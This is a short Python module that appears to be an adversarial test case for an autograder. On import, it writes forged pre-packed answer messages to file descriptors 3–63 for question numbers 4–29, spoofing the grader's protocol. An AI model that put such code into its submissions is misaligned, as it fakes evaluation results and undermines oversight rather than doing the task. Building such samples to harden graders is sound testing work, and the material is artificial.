"""Sends answers to questions that have not been asked, while it is imported.

attacked: failed, crashed
costs: everything
layer: protocol
"""

import os
import struct

import numpy as np

from autograder.observation.answer import Answer, Ending

CLAIM = Answer(Ending.RETURNED, {"answer": np.zeros(6)}).to_bytes()

for number in range(4, 30):
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<QQ", number, len(CLAIM)) + CLAIM)
        except OSError:
            pass


def attacked(x):
    return np.zeros_like(x)
